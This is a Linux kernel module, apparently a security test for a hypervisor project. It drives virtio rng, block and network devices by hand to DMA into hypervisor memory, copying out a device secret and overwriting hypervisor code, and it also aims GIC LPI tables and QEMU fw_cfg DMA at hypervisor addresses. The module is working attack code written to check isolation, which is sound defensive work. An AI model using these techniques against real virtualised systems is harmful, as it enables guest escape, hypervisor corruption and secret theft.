// SPDX-License-Identifier: GPL-2.0
/*
 * gwdma: the guest kernel, as an attacker, aims every device it has at hypervisor memory.
 *
 * Root in the gateway's Linux can load unsigned modules, so the guest kernel is the adversary
 * docs/threat-model.md assumes. This module takes over each virtio PCI device by hand (its
 * driver must be unbound first) and makes it DMA:
 *   - into its own buffers (the benign twin: each must work, or the test could not fail), and
 *   - at hypervisor physical addresses: `hv_read` (bytes the device would copy out: the device
 *     secret) and `hv_write` (bytes the device would overwrite: hypervisor code).
 *     rng:  the device writes random bytes into the buffer;
 *     blk:  IN reads disk sector 0 into the buffer, OUT writes the buffer to a sector;
 *     net:  TX sends the buffer as a frame, RX receives QEMU's ARP reply into the buffer.
 * It also tries to point the GIC redistributor's LPI tables (which the GIC reads and writes
 * itself, not through the SMMU) at `hv_write`, and, with `fwcfg=1` (alone, last: the access
 * aborts and kills the loading process), to program fw_cfg's DMA register.
 * One line per step; the test (tests/tests/qemu_dma.rs) checks the hypervisor's bytes from the
 * host and reads what the devices wrote to the disk and the network.
 */

#include <linux/delay.h>
#include <linux/io.h>
#include <linux/module.h>
#include <linux/pci.h>
#include <linux/slab.h>
#include <linux/virtio_config.h>
#include <linux/virtio_net.h>
#include <linux/virtio_pci_modern.h>
#include <linux/virtio_ring.h>

static unsigned long hv_read;
module_param(hv_read, ulong, 0444);
MODULE_PARM_DESC(hv_read, "hypervisor physical address devices should copy out (the device secret)");

static unsigned long hv_write;
module_param(hv_write, ulong, 0444);
MODULE_PARM_DESC(hv_write, "hypervisor physical address devices should overwrite (hypervisor code)");

static unsigned long gicr;
module_param(gicr, ulong, 0444);
MODULE_PARM_DESC(gicr, "guest-physical base of CPU 0's GIC redistributor (0: skip)");

static bool fwcfg;
module_param(fwcfg, bool, 0444);
MODULE_PARM_DESC(fwcfg, "only program fw_cfg's DMA register at fwcfg_base (aborts when it is not mapped)");

static unsigned long fwcfg_base = 0x09020000;
module_param(fwcfg_base, ulong, 0444);
MODULE_PARM_DESC(fwcfg_base, "fw_cfg's guest-physical base");

#define QSZ 8
#define BENIGN "GWDMA-BENIGN-MARKER"

/* One split virtqueue of QSZ entries (virtio 1.x layout), in one page of guest memory. */
struct ring {
	struct vring_desc desc[QSZ];
	__le16 avail_flags, avail_idx, avail_ring[QSZ];
	__le16 used_flags __aligned(64);
	__le16 used_idx;
	struct vring_used_elem used_ring[QSZ];
};

struct dev {
	struct pci_dev *pdev;
	struct virtio_pci_modern_device m;
	struct ring *q[2];
	void __iomem *notify[2];
	u16 avail[2], used[2];
};

static int dev_start(struct dev *d, struct pci_dev *pdev, int queues)
{
	u64 want = BIT_ULL(VIRTIO_F_VERSION_1) | BIT_ULL(VIRTIO_F_ACCESS_PLATFORM);
	int i, err;

	memset(d, 0, sizeof(*d));
	d->pdev = pdev;
	d->m.pci_dev = pdev;
	err = pci_enable_device(pdev);
	if (err)
		return err;
	pci_set_master(pdev);
	err = vp_modern_probe(&d->m);
	if (err)
		return err;
	vp_modern_set_status(&d->m, 0);
	while (vp_modern_get_status(&d->m))
		msleep(1);
	vp_modern_set_status(&d->m, VIRTIO_CONFIG_S_ACKNOWLEDGE | VIRTIO_CONFIG_S_DRIVER);
	if ((vp_modern_get_features(&d->m) & want) != want)
		return -ENODEV;
	vp_modern_set_features(&d->m, want);
	vp_modern_set_status(&d->m, VIRTIO_CONFIG_S_ACKNOWLEDGE | VIRTIO_CONFIG_S_DRIVER |
			     VIRTIO_CONFIG_S_FEATURES_OK);
	if (!(vp_modern_get_status(&d->m) & VIRTIO_CONFIG_S_FEATURES_OK))
		return -ENODEV;
	for (i = 0; i < queues; i++) {
		d->q[i] = (struct ring *)get_zeroed_page(GFP_KERNEL);
		if (!d->q[i])
			return -ENOMEM;
		vp_modern_set_queue_size(&d->m, i, QSZ);
		vp_modern_queue_address(&d->m, i, virt_to_phys(d->q[i]->desc),
					virt_to_phys(&d->q[i]->avail_flags),
					virt_to_phys(&d->q[i]->used_flags));
		d->notify[i] = vp_modern_map_vq_notify(&d->m, i, NULL);
		if (!d->notify[i])
			return -ENOMEM;
		vp_modern_set_queue_enable(&d->m, i, true);
	}
	vp_modern_set_status(&d->m, VIRTIO_CONFIG_S_ACKNOWLEDGE | VIRTIO_CONFIG_S_DRIVER |
			     VIRTIO_CONFIG_S_FEATURES_OK | VIRTIO_CONFIG_S_DRIVER_OK);
	return 0;
}

static void dev_stop(struct dev *d)
{
	int i;

	if (d->m.common)
		vp_modern_set_status(&d->m, 0);
	for (i = 0; i < 2; i++) {
		/* Inside the notify BAR's mapping when the device has one (vp_modern_probe). */
		if (d->notify[i] && !d->m.notify_base)
			iounmap(d->notify[i]);
		if (d->q[i])
			free_page((unsigned long)d->q[i]);
	}
	if (d->m.common)
		vp_modern_remove(&d->m);
	pci_disable_device(d->pdev);
}

/*
 * Post a chain of `n` buffers (physical address, length, device-writable) on queue `qi` and
 * wait up to a second for the device to use it. Returns the used length, or -ETIMEDOUT; the
 * device status (NEEDS_RESET when it refused the chain) is in *status.
 */
static long submit(struct dev *d, int qi, const u64 *pa, const u32 *len, const bool *w, int n,
		   u8 *status)
{
	struct ring *r = d->q[qi];
	int i, slot = d->avail[qi] % QSZ, t;

	for (i = 0; i < n; i++) {
		r->desc[i].addr = cpu_to_le64(pa[i]);
		r->desc[i].len = cpu_to_le32(len[i]);
		r->desc[i].flags = cpu_to_le16((w[i] ? VRING_DESC_F_WRITE : 0) |
					       (i + 1 < n ? VRING_DESC_F_NEXT : 0));
		r->desc[i].next = cpu_to_le16(i + 1);
	}
	r->avail_ring[slot] = 0;
	wmb();
	r->avail_idx = cpu_to_le16(++d->avail[qi]);
	wmb();
	iowrite16(qi, d->notify[qi]);
	for (t = 0; t < 1000; t++) {
		rmb();
		if (le16_to_cpu(READ_ONCE(r->used_idx)) != d->used[qi]) {
			u32 got = le32_to_cpu(r->used_ring[d->used[qi] % QSZ].len);

			d->used[qi]++;
			*status = vp_modern_get_status(&d->m);
			return got;
		}
		msleep(1);
	}
	*status = vp_modern_get_status(&d->m);
	return -ETIMEDOUT;
}

static struct pci_dev *find(u16 device)
{
	struct pci_dev *p = pci_get_device(PCI_VENDOR_ID_REDHAT_QUMRANET, device, NULL);

	if (p && p->driver) {
		pr_info("gwdma: %s is bound to %s: unbind it first\n", pci_name(p), p->driver->name);
		pci_dev_put(p);
		return NULL;
	}
	return p;
}

static void *buf;

static void rng(void)
{
	struct pci_dev *p = find(0x1044);
	struct dev d;
	u64 pa;
	u32 len = 64;
	bool w = true;
	u8 st;
	long got;
	int i, nonzero = 0;

	if (!p || dev_start(&d, p, 1)) {
		pr_info("gwdma: rng: no usable device\n");
		goto out;
	}
	memset(buf, 0, 64);
	pa = virt_to_phys(buf);
	got = submit(&d, 0, &pa, &len, &w, 1, &st);
	for (i = 0; i < 64; i++)
		nonzero += ((u8 *)buf)[i] != 0;
	pr_info("gwdma: rng into own buffer: %ld bytes, %d nonzero\n", got, nonzero);
	if (hv_write) {
		pa = hv_write;
		got = submit(&d, 0, &pa, &len, &w, 1, &st);
		pr_info("gwdma: rng into hypervisor %#lx: answered %ld, status %#x\n", hv_write, got, st);
	}
	dev_stop(&d);
out:
	pci_dev_put(p);
}

struct blk_req {
	__le32 type;
	__le32 reserved;
	__le64 sector;
};

static long blk_io(struct dev *d, u32 type, u64 sector, u64 data, u8 *status)
{
	struct blk_req *h = buf + 2048;
	u8 *s = buf + 2048 + sizeof(*h);
	u64 pa[3] = { virt_to_phys(h), data, virt_to_phys(s) };
	u32 len[3] = { sizeof(*h), 512, 1 };
	bool w[3] = { false, type == 0, true };
	u8 dst;
	long got;

	h->type = cpu_to_le32(type);
	h->reserved = 0;
	h->sector = cpu_to_le64(sector);
	*s = 0xff;
	got = submit(d, 0, pa, len, w, 3, &dst);
	*status = *s;
	return got;
}

static void blk(void)
{
	struct pci_dev *p = find(0x1042);
	struct dev d;
	u8 st;
	long got;

	if (!p || dev_start(&d, p, 1)) {
		pr_info("gwdma: blk: no usable device\n");
		goto out;
	}
	memset(buf, 0, 512);
	got = blk_io(&d, 0, 0, virt_to_phys(buf), &st);
	pr_info("gwdma: blk read into own buffer: %ld, status %u, label %.20s\n", got, st, (char *)buf);
	memset(buf, 0, 512);
	strcpy(buf, BENIGN " blk");
	got = blk_io(&d, 1, 2, virt_to_phys(buf), &st);
	pr_info("gwdma: blk write from own buffer to sector 2: %ld, status %u\n", got, st);
	if (hv_write) {
		got = blk_io(&d, 0, 0, hv_write, &st);
		pr_info("gwdma: blk read into hypervisor %#lx: %ld, status %u\n", hv_write, got, st);
	}
	if (hv_read) {
		got = blk_io(&d, 1, 3, hv_read, &st);
		pr_info("gwdma: blk write from hypervisor %#lx to sector 3: %ld, status %u\n", hv_read,
			got, st);
	}
	dev_stop(&d);
out:
	pci_dev_put(p);
}

/* An ARP request for QEMU's user-network gateway (10.0.2.2) from 10.0.2.15. */
static int arp_request(u8 *f, const u8 *mac)
{
	static const u8 tail[] = { 0x08, 0x06, 0, 1, 0x08, 0, 6, 4, 0, 1 };

	memset(f, 0xff, 6);
	memcpy(f + 6, mac, 6);
	memcpy(f + 12, tail, sizeof(tail));
	memcpy(f + 22, mac, 6);
	memcpy(f + 28, "\x0a\x00\x02\x0f", 4);
	memset(f + 32, 0, 6);
	memcpy(f + 38, "\x0a\x00\x02\x02", 4);
	return 60;
}

static void net(void)
{
	struct pci_dev *p = find(0x1041);
	struct dev d;
	u8 mac[6], st, *hdr, *frame;
	u64 pa[2];
	u32 len[2];
	bool w[2];
	long got;
	int i, hlen = sizeof(struct virtio_net_hdr_v1);

	if (!p || dev_start(&d, p, 2)) {
		pr_info("gwdma: net: no usable device\n");
		goto out;
	}
	for (i = 0; i < 6; i++)
		mac[i] = ioread8(d.m.device + i);
	hdr = buf;
	frame = buf + 256;
	memset(buf, 0, 2048);
	/* TX from own buffer: the ARP request, the marker after it. */
	got = arp_request(frame, mac);
	strcpy(frame + 42, BENIGN " net");
	pa[0] = virt_to_phys(hdr);
	len[0] = hlen;
	w[0] = false;
	pa[1] = virt_to_phys(frame);
	len[1] = 80;
	w[1] = false;
	got = submit(&d, 1, pa, len, w, 2, &st);
	pr_info("gwdma: net tx from own buffer: %ld, status %#x\n", got, st);
	/* RX into own buffer: the gateway's ARP reply. */
	pa[0] = virt_to_phys(buf + 1024);
	len[0] = 1024;
	w[0] = true;
	memset(buf + 1024, 0, 1024);
	got = submit(&d, 0, pa, len, w, 1, &st);
	pr_info("gwdma: net rx into own buffer: %ld, ethertype %02x%02x, arp op %u\n", got,
		((u8 *)buf)[1024 + hlen + 12], ((u8 *)buf)[1024 + hlen + 13],
		((u8 *)buf)[1024 + hlen + 21]);
	if (hv_write) {
		/* Another request, so another reply, received into hypervisor memory. */
		pa[0] = virt_to_phys(hdr);
		len[0] = hlen;
		w[0] = false;
		pa[1] = virt_to_phys(frame);
		len[1] = 60;
		submit(&d, 1, pa, len, w, 2, &st);
		pa[0] = hv_write;
		len[0] = 1024;
		w[0] = true;
		got = submit(&d, 0, pa, len, w, 1, &st);
		pr_info("gwdma: net rx into hypervisor %#lx: %ld, status %#x\n", hv_write, got, st);
	}
	if (hv_read) {
		pa[0] = virt_to_phys(hdr);
		len[0] = hlen;
		w[0] = false;
		pa[1] = hv_read;
		len[1] = 64;
		w[1] = false;
		got = submit(&d, 1, pa, len, w, 2, &st);
		pr_info("gwdma: net tx from hypervisor %#lx: %ld, status %#x\n", hv_read, got, st);
	}
	dev_stop(&d);
out:
	pci_dev_put(p);
}

/* Point CPU 0's redistributor LPI tables at hypervisor memory and try to enable LPIs. */
static void gic(void)
{
	void __iomem *rd = ioremap(gicr, 0x1000);
	u64 typer, prop, pend;
	u32 ctlr;

	if (!rd)
		return;
	typer = readq_relaxed(rd + 0x8);
	writeq_relaxed(hv_write | 0x7 /* 16 ID bits */, rd + 0x70);
	writeq_relaxed(hv_write, rd + 0x78);
	writel_relaxed(readl_relaxed(rd) | 1, rd);
	prop = readq_relaxed(rd + 0x70);
	pend = readq_relaxed(rd + 0x78);
	ctlr = readl_relaxed(rd);
	pr_info("gwdma: gicr TYPER.PLPIS %llu, PROPBASER %#llx, PENDBASER %#llx, EnableLPIs %u\n",
		typer & 1, prop, pend, ctlr & 1);
	writel_relaxed(ctlr & ~1u, rd);
	iounmap(rd);
}

static int __init gwdma_init(void)
{
	buf = kzalloc(4096, GFP_KERNEL);
	if (!buf)
		return -ENOMEM;
	if (fwcfg) {
		/*
		 * QEMU's fw_cfg DMA: a control block (big-endian control, length, address) whose
		 * address goes, big-endian, to the register at +0x10. SELECT|READ of item 0 (the
		 * "QEMU" signature) would write 4 bytes at hv_write.
		 */
		__be32 *cb = buf;
		void __iomem *r = ioremap(fwcfg_base, 0x20);
		u64 pa = virt_to_phys(cb);

		cb[0] = cpu_to_be32((0 << 16) | 0x08 | 0x02);
		cb[1] = cpu_to_be32(4);
		*(__be64 *)&cb[2] = cpu_to_be64(hv_write);
		wmb();
		pr_info("gwdma: fw_cfg DMA register at %#lx\n", fwcfg_base + 0x10);
		if (r) {
			iowrite32be(upper_32_bits(pa), r + 0x10);
			iowrite32be(lower_32_bits(pa), r + 0x14);
			iounmap(r);
		}
		pr_info("gwdma: fw_cfg DMA register written, control now %#x\n", be32_to_cpu(cb[0]));
		kfree(buf);
		return -EIO;
	}
	rng();
	blk();
	net();
	if (gicr)
		gic();
	kfree(buf);
	pr_info("gwdma: done\n");
	/* Never stays loaded: the verdict is the test's, from the host. */
	return -ECANCELED;
}

module_init(gwdma_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("Gatewarden: DMA attacks on the hypervisor from the guest kernel (tests)");
